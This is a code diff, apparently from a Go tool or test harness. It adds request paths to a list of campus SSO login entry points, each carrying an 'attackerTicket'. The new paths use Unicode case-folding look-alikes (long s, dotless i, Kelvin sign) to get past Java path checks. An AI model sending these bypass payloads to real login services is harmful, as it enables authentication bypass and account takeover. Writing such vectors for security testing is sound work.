@@ -96,6 +96,10 @@ var campusEntryPoints = []Request{
 	{Service: "portal", Path: "/portal2017;x=1/ssoLogin.do?token=" + attackerTicket},
 	{Service: "portal", Path: "/portal2017/ssoLogin.do/?token=" + attackerTicket},
 	{Service: "portal", Path: "/portal2017/ssoLogin.do.?token=" + attackerTicket},
+	{Service: "portal", Path: "/portal2017/\u017FsoLogin.do?token=" + attackerTicket},     // a long s, which Java's equalsIgnoreCase takes for s
+	{Service: "portal", Path: "/portal2017/ssoLog\u0131n.do?token=" + attackerTicket},     // a dotless i
+	{Service: "portal", Path: "/portal2017/%C5%BFsoLogin.do?token=" + attackerTicket},     // the long s escaped
+	{Service: "card", Path: "/berserker-auth/cas/login/p\u212Au?token=" + attackerTicket}, // the Kelvin sign
 	{Service: "card", Path: "/berserker-auth/cas/login/pku?token=" + attackerTicket + "&targetUrl=https%3A%2F%2Fbdcard.pku.edu.cn%2Fplat"},
 	{Service: "card-legacy", Method: "POST", Path: "/cassyno/index", Body: []byte("ssoticketid=" + attackerTicket + "&errorcode=1")},
 	{Service: "treehole", Path: "/chapi/cas_iaaa_login?version=3&uuid=0123456789ab&plat=web&token=" + attackerTicket},
